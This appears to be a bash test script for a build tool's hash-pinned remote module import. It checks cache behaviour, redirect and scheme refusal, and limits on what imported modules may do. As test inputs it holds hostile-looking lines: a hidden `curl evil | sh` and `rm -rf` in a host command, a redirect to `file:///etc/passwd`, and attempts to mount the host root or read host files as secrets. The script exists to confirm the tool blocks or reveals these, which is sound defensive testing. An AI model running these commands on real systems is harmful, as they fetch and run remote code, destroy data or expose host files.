#!/usr/bin/env bash
# import.sh - `import "URL#sha256=HEX"` (docs/import.md) against real local
# HTTP servers on 127.0.0.1: python3 -m http.server for the modules and a tiny
# redirect server (302 with a body of its own). Covers: a pinned module used by
# plan, the cache (hit with the server stopped, miss with it stopped, a
# corrupt entry fetched again), a wrong pin (nothing cached), an unpinned URL
# (refused, never even requested), a redirect, http:// to a non-loopback host,
# HTTP 404, the size cap, errors inside a module naming its URL, and one
# evaluation per URL per load. No engine: DOCKER_HOST names a missing socket.
# Prints "ok N - name" lines and "N passed, M failed"; exit 1 on failure.
set -uo pipefail
here=$(cd "$(dirname "$0")" && pwd)
top=$(cd "$here/../.." && pwd)
. "$here/../lib/tap.sh"
GB=${GB:-$top/build/${GB_CONFIG:-release}/graphbuild}
[ -x "$GB" ] || { fail "no graphbuild binary at $GB"; done_tests; exit 1; }

w=$(mktemp -d /tmp/gbimport.XXXXXX)
pids=()
cleanup() {
	local p
	for p in "${pids[@]}"; do kill "$p" 2>/dev/null; wait "$p" 2>/dev/null; done
	rm -rf "$w"
}
trap cleanup EXIT
export DOCKER_HOST=unix:///nonexistent/x.sock

free_port() {
	python3 -c 'import socket; s=socket.socket(); s.bind(("127.0.0.1", 0)); print(s.getsockname()[1])'
}
# wait_http URL: polls until the server answers (up to ~10 s).
wait_http() {
	local i
	for i in $(seq 200); do
		curl -s -o /dev/null --max-time 1 "$1" && return 0
		sleep 0.05
	done
	return 1
}
sha() { sha256sum "$1" | cut -d' ' -f1; }

srv=$w/srv
mkdir -p "$srv"
cat >"$srv/mod.lua" <<'EOF'
#!/usr/bin/env lua
-- a shared module: returns a function that makes an image
local M = {}
function M.web(name)
  return image(name) { from = "busybox:1.36", cmd = { "httpd", "-f" } }
end
M.count = (M.count or 0) + 1
return M
EOF
cat >"$srv/bad.lua" <<'EOF'
local M = {}
error("broken module")
return M
EOF
head -c $((1024 * 1024 + 10)) /dev/zero | tr '\0' '-' >"$srv/big.lua"
H=$(sha "$srv/mod.lua")
HBAD=$(sha "$srv/bad.lua")
HBIG=$(sha "$srv/big.lua")
WRONG=$(printf 'not the module' | sha256sum | cut -d' ' -f1)

port=$(free_port)
python3 -m http.server "$port" --bind 127.0.0.1 --directory "$srv" >"$w/srv.log" 2>&1 &
srv_pid=$!
pids+=("$srv_pid")
base=http://127.0.0.1:$port
wait_http "$base/mod.lua" || { fail "start python3 -m http.server on $port"; done_tests; exit 1; }

cat >"$w/redirect.py" <<'EOF'
import http.server, sys
port, target = int(sys.argv[1]), sys.argv[2]
class Redirect(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        body = b"moved: this body is not the module\n"
        self.send_response(302)
        self.send_header("Location", target)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
http.server.HTTPServer(("127.0.0.1", port), Redirect).serve_forever()
EOF
rport=$(free_port)
python3 "$w/redirect.py" "$rport" "$base/mod.lua" >"$w/redirect.log" 2>&1 &
pids+=("$!")
wait_http "http://127.0.0.1:$rport/" || { fail "start the redirect server on $rport"; done_tests; exit 1; }

# stack DIR LUA...: a project directory with a stack.lua of the given lines.
stack() {
	local d=$w/$1
	shift
	mkdir -p "$d"
	printf '%s\n' "$@" >"$d/stack.lua"
}
# gb DIR CACHE: plan in DIR with the given cache root; sets out, err, rc.
gb() {
	(cd "$w/$1" && GRAPHBUILD_CACHE_DIR=$w/$2 "$GB" plan >"$w/out" 2>"$w/err")
	rc=$?
	out=$(cat "$w/out")
	err=$(cat "$w/err")
}
has() { grep -qF -- "$2" <<<"$1"; }
nfiles() { find "$1" -type f 2>/dev/null | wc -l; }
show() { echo "# rc=$rc"; sed 's/^/# /' "$w/err"; }

# 1. a pinned module: fetched, checked, cached, its image in the plan
stack ok 'project "imp"' "local m = import \"$base/mod.lua#sha256=$H\"" 'm.web "fromimport"'
gb ok c1
{ [ $rc = 0 ] && has "$out" fromimport; } && pass "pinned import: plan works, the module's image is planned" || { fail "pinned import: plan works, the module's image is planned"; show; }
check "the module is cached by hash" cmp -s "$srv/mod.lua" "$w/c1/modules/$H.lua"
check "the cache holds that one file" [ "$(nfiles "$w/c1")" = 1 ]

# 2. one evaluation per URL per load
stack twice 'project "imp"' "local a = import \"$base/mod.lua#sha256=$H\"" \
	"local b = import \"$base/mod.lua#sha256=$H\"" 'assert(a == b and a.count == 1, "evaluated twice")' 'a.web "x"'
gb twice c1
[ $rc = 0 ] && pass "the same URL twice gives the same value" || { fail "the same URL twice gives the same value"; show; }

# 3. errors in the module name the URL
stack broken 'project "imp"' '' "local m = import \"$base/bad.lua#sha256=$HBAD\""
gb broken c1
{ [ $rc = 2 ] && has "$err" "$base/bad.lua:2: broken module"; } && pass "an error inside the module names its URL and line" || { fail "an error inside the module names its URL and line"; show; }

# 4. wrong pin: an error naming both hashes, nothing cached
stack wrong 'project "imp"' '' "local m = import \"$base/mod.lua#sha256=$WRONG\""
gb wrong c4
{ [ $rc = 2 ] && has "$err" "graphbuild: stack.lua:3: import $base/mod.lua: sha256 mismatch: pinned $WRONG, got $H"; } && pass "wrong pin: sha256 mismatch, exit 2" || { fail "wrong pin: sha256 mismatch, exit 2"; show; }
check "wrong pin: nothing cached" [ "$(nfiles "$w/c4")" = 0 ]

# 5. no pin: refused before any request
stack unpinned 'project "imp"' "local m = import \"$base/unpinned.lua\""
gb unpinned c5
{ [ $rc = 2 ] && has "$err" "graphbuild: stack.lua:2: import of $base/unpinned.lua refused: pin it with #sha256=<hex of the module> (nothing unpinned is ever run)"; } && pass "no pin: refused, exit 2" || { fail "no pin: refused, exit 2"; show; }
stack badpin 'project "imp"' "local m = import \"$base/unpinned.lua#sha256=${H^^}\""
gb badpin c5
{ [ $rc = 2 ] && has "$err" "bad pin '#sha256=${H^^}'"; } && pass "an uppercase pin is refused" || { fail "an uppercase pin is refused"; show; }
check "unpinned: never requested from the server" bash -c "! grep -q unpinned '$w/srv.log'"
check "unpinned: nothing cached" [ "$(nfiles "$w/c5")" = 0 ]

# 6. a redirect is followed (its own body is not part of the module)
stack redir 'project "imp"' "local m = import \"http://127.0.0.1:$rport/elsewhere/mod.lua#sha256=$H\"" 'm.web "viaredirect"'
gb redir c6
{ [ $rc = 0 ] && has "$out" viaredirect; } && pass "redirect followed" || { fail "redirect followed"; show; }
check "redirect: the server was asked" grep -q 'GET /elsewhere/mod.lua' "$w/redirect.log"
check "redirect: cached under the pin" cmp -s "$srv/mod.lua" "$w/c6/modules/$H.lua"

# 6b. every redirect hop obeys the first URL's rule: a 302 from loopback
#     http:// to plain http:// on a non-loopback host (TEST-NET, never
#     routed) is refused before any connection (connecting would time out
#     after 5 s with "cannot fetch"), and so is a 302 to another protocol
rport2=$(free_port)
python3 "$w/redirect.py" "$rport2" "http://192.0.2.1/mod.lua" >"$w/redirect2.log" 2>&1 &
pids+=("$!")
rport3=$(free_port)
python3 "$w/redirect.py" "$rport3" "file:///etc/passwd" >"$w/redirect3.log" 2>&1 &
pids+=("$!")
wait_http "http://127.0.0.1:$rport2/" && wait_http "http://127.0.0.1:$rport3/" || fail "start the redirect servers"
stack redir2 'project "imp"' "local m = import \"http://127.0.0.1:$rport2/mod.lua#sha256=$H\""
gb redir2 c6b
{ [ $rc = 2 ] && has "$err" "import http://127.0.0.1:$rport2/mod.lua: redirect to http://192.0.2.1/mod.lua refused: plain http:// is allowed only to a loopback host" &&
	! has "$err" "cannot fetch"; } && pass "a redirect to http:// on a non-loopback host is refused before connecting" || { fail "a redirect to http:// on a non-loopback host is refused before connecting"; show; }
stack redir3 'project "imp"' "local m = import \"http://127.0.0.1:$rport3/mod.lua#sha256=$H\""
gb redir3 c6b
{ [ $rc = 2 ] && has "$err" "redirect to file:///etc/passwd refused: only https:// URLs"; } && pass "a redirect to another protocol is refused" || { fail "a redirect to another protocol is refused"; show; }
check "refused redirects: nothing cached" [ "$(nfiles "$w/c6b")" = 0 ]

# 6c. module trust (DEFECTS 43): an imported module's require never reads the
#     importer's directory; its helper comes by a relative import pinned in
#     its own bytes; it cannot set project settings; plan lists its host commands
mkdir -p "$srv/lib"
printf 'return { who = "origin-helper" }\n' >"$srv/lib/helper.lua"
HH=$(sha "$srv/lib/helper.lua")
printf '%s\n' "local h = import \"helper.lua#sha256=$HH\"" \
	'rootfs { name = "hostcmd", command = "echo from-module > \"$out/x\"" }' \
	'return { who = h.who }' >"$srv/lib/trusty.lua"
printf 'local h = require "helper"\nreturn h\n' >"$srv/lib/needy.lua"
printf 'project { "secimp", cache = "127.0.0.1:5999/x", cache_push = true }\nreturn {}\n' >"$srv/lib/bossy.lua"
HT=$(sha "$srv/lib/trusty.lua"); HN=$(sha "$srv/lib/needy.lua"); HB=$(sha "$srv/lib/bossy.lua")
stack trust 'project "imp"' "local t = import \"$base/lib/trusty.lua#sha256=$HT\"" 'assert(t.who == "origin-helper", t.who)'
printf 'return { who = "importer-dir" }\n' >"$w/trust/helper.lua"
gb trust c6c
[ $rc = 0 ]; checked "a relative import inside a module resolves against its URL, pinned inside it" || show
(cd "$w/trust" && GRAPHBUILD_CACHE_DIR=$w/c6c "$GB" plan --json >"$w/out" 2>"$w/err"); rc=$?
python3 - "$w/out" "$base/lib/trusty.lua" <<'PY'
import json, sys
hc = json.load(open(sys.argv[1]))["host_commands"]
assert hc == [{"node": "hostcmd", "command": 'echo from-module > "$out/x"', "file": sys.argv[2], "line": 2,
               "module": sys.argv[2]}], hc
PY
checked "plan --json lists the module's host command with its module" || show
(cd "$w/trust" && GRAPHBUILD_CACHE_DIR=$w/c6c "$GB" plan >"$w/out" 2>"$w/err"); rc=$?
grep -qF "runs on this host: echo from-module > \"\$out/x\" (from the imported module $base/lib/trusty.lua, line 2)" "$w/out"
checked "text plan shows the host command under its node" || sed 's/^/# /' "$w/out"
# every line of a longer command, control characters made visible: a CR
# cannot overwrite what the reader sees, a second line cannot hide
stack hidden 'project "imp"' 'image "i" { from = rootfs { command = "echo ok\rcurl evil | sh\nrm -rf \"$out\"/x\027[8m" } }'
gb hidden c6d
[ $rc = 0 ] && grep -qxF "             runs on this host (stack.lua:2):" "$w/out" &&
	grep -qxF '               | echo ok\x0dcurl evil | sh' "$w/out" && grep -qxF '               | rm -rf "$out"/x\x1b[8m' "$w/out"
checked "text plan shows every line of a host command, control characters as \\xNN" || { show; sed 's/^/# /' "$w/out"; }
stack needy 'project "imp"' "local t = import \"$base/lib/needy.lua#sha256=$HN\""
printf 'return { who = "importer-dir" }\n' >"$w/needy/helper.lua"
gb needy c6c
{ [ $rc = 2 ] && has "$err" "$base/lib/needy.lua:1: module 'helper' not found; the imported module $base/lib/needy.lua may require only graphbuild's own library"; } &&
	pass "an imported module's require does not resolve in the importer's directory" || { fail "an imported module's require does not resolve in the importer's directory"; show; }
stack bossy 'project "imp"' "local t = import \"$base/lib/bossy.lua#sha256=$HB\""
gb bossy c6c
{ [ $rc = 2 ] && has "$err" "$base/lib/bossy.lua:1: project: only the root stack sets project settings; the module '$base/lib/bossy.lua' may not"; } &&
	pass "an imported module cannot set project settings" || { fail "an imported module cannot set project settings"; show; }
# what only the root stack may do: host files and the environment as
# secrets, host paths as mounts, a context beyond the stack directory
grabby() { # NAME MODULE-LINE MESSAGE: a module of that line is refused with MESSAGE
	printf '%s\nreturn {}\n' "$2" >"$srv/lib/$1.lua"
	local h; h=$(sha "$srv/lib/$1.lua")
	stack "$1" 'project "imp"' "local t = import \"$base/lib/$1.lua#sha256=$h\""
	mkdir -p "$w/$1/sub"
	gb "$1" c6c
	{ [ $rc = 2 ] && has "$err" "$base/lib/$1.lua:1: " && has "$err" "$3"; } && pass "an imported module is refused: $2" ||
		{ fail "an imported module is refused: $2"; show; }
}
grabby gsecret 'secret "k" { file = "/etc/hostname" }' "secret \"k\": the imported module $base/lib/gsecret.lua may not declare secrets"
grabby genv 'secret "k" { env = "HOME" }' "the imported module $base/lib/genv.lua may not declare secrets"
grabby gbind 'service "s" { image = "busybox:1", volumes = { "/:/host:rw" } }' "volume '/:/host:rw': the imported module $base/lib/gbind.lua may not mount a host path"
grabby grel 'service "s" { image = "busybox:1", volumes = { "./:/src" } }' "may not mount a host path"
grabby gctx 'image "c" { from = "busybox:1", context = "/" }' "context '/' is outside the stack directory; the imported module $base/lib/gctx.lua may use a context only beneath the stack directory"
grabby gup 'image "c" { from = "busybox:1", context = "sub/../.." }' "context 'sub/../..' is outside the stack directory"
mkdir -p "$w/glink"; ln -sfn /etc "$w/glink/etclink"
grabby glink 'image "c" { from = "busybox:1", context = "etclink" }' "a path outside the context"
printf '%s\n' 'service "s" { image = "busybox:1", volumes = { "data:/data" } }' \
	'image "c" { from = "busybox:1", context = "sub" }' 'return {}' >"$srv/lib/gok.lua"
stack gok 'project "imp"' "local t = import \"$base/lib/gok.lua#sha256=$(sha "$srv/lib/gok.lua")\""
mkdir -p "$w/gok/sub"
gb gok c6c
[ $rc = 0 ]; checked "an imported module may use a named volume and a context beneath the stack directory" || show
stack reqproj 'project "imp"' 'require "sub"'
printf 'project { "other", cache = "127.0.0.1:5999/x" }\n' >"$w/reqproj/sub.lua"
gb reqproj c6c
{ [ $rc = 2 ] && has "$err" "sub.lua:1: project: only the root stack sets project settings; the module 'sub' may not"; } &&
	pass "a required module cannot set project settings" || { fail "a required module cannot set project settings"; show; }

# 7. HTTP errors name the status; the size cap holds
stack missing 'project "imp"' "local m = import \"$base/nope.lua#sha256=$H\""
gb missing c7
{ [ $rc = 2 ] && has "$err" "import $base/nope.lua: the server answered HTTP 404"; } && pass "HTTP 404 is named" || { fail "HTTP 404 is named"; show; }
stack big 'project "imp"' "local m = import \"$base/big.lua#sha256=$HBIG\""
gb big c7
{ [ $rc = 2 ] && has "$err" "larger than 1024 KiB"; } && pass "a module over 1 MiB is refused" || { fail "a module over 1 MiB is refused"; show; }
check "404 and oversize: nothing cached" [ "$(nfiles "$w/c7")" = 0 ]

# 8. a corrupt cache entry is fetched again
printf 'image "evil" { from = "busybox" }\n' >"$w/c1/modules/$H.lua"
gb ok c1
{ [ $rc = 0 ] && has "$out" fromimport && ! has "$out" evil; } && pass "a corrupt cache entry is not used" || { fail "a corrupt cache entry is not used"; show; }
check "a corrupt cache entry is replaced" cmp -s "$srv/mod.lua" "$w/c1/modules/$H.lua"

# 9. http:// only to loopback hosts (refused before any network)
stack remote 'project "imp"' "local m = import \"http://example.com/mod.lua#sha256=$H\""
gb remote c9
{ [ $rc = 2 ] && has "$err" "plain http:// is allowed only to a loopback host"; } && pass "http:// to a non-loopback host refused" || { fail "http:// to a non-loopback host refused"; show; }
stack ftp 'project "imp"' "local m = import \"ftp://127.0.0.1/mod.lua#sha256=$H\""
gb ftp c9
{ [ $rc = 2 ] && has "$err" "only https:// URLs"; } && pass "other schemes refused" || { fail "other schemes refused"; show; }
stack notstr 'project "imp"' 'local m = import(42)'
gb notstr c9
{ [ $rc = 2 ] && has "$err" "stack.lua:2: import: expected a URL string"; } && pass "a non-string URL is an error" || { fail "a non-string URL is an error"; show; }

# 10. offline: the server is down
kill "$srv_pid"
wait "$srv_pid" 2>/dev/null
! curl -s -o /dev/null --max-time 2 "$base/mod.lua"; checked "the server stopped"
gb ok c1
{ [ $rc = 0 ] && has "$out" fromimport; } && pass "server down, cache hit: plan works offline" || { fail "server down, cache hit: plan works offline"; show; }
gb ok c10
{ [ $rc = 2 ] && has "$err" "graphbuild: stack.lua:2: import $base/mod.lua: cannot fetch (" &&
	has "$err" "and it is not in the cache $w/c10/modules"; } && pass "server down, cache miss: a clear error, exit 2" || { fail "server down, cache miss: a clear error, exit 2"; show; }

# 11. XDG_CACHE_HOME when GRAPHBUILD_CACHE_DIR is unset
(cd "$w/ok" && env -u GRAPHBUILD_CACHE_DIR XDG_CACHE_HOME=$w/c1x "$GB" plan >/dev/null 2>"$w/err"); rc=$?
[ $rc = 2 ] && has "$(cat "$w/err")" "not in the cache $w/c1x/graphbuild/modules" && pass "the cache is under XDG_CACHE_HOME/graphbuild/modules" || { fail "the cache is under XDG_CACHE_HOME/graphbuild/modules"; show; }
mkdir -p "$w/c1x/graphbuild"
cp -r "$w/c1/modules" "$w/c1x/graphbuild/"
(cd "$w/ok" && env -u GRAPHBUILD_CACHE_DIR XDG_CACHE_HOME=$w/c1x "$GB" plan >"$w/out" 2>"$w/err"); rc=$?
[ $rc = 0 ] && pass "XDG_CACHE_HOME cache hit offline" || { fail "XDG_CACHE_HOME cache hit offline"; show; }

done_tests
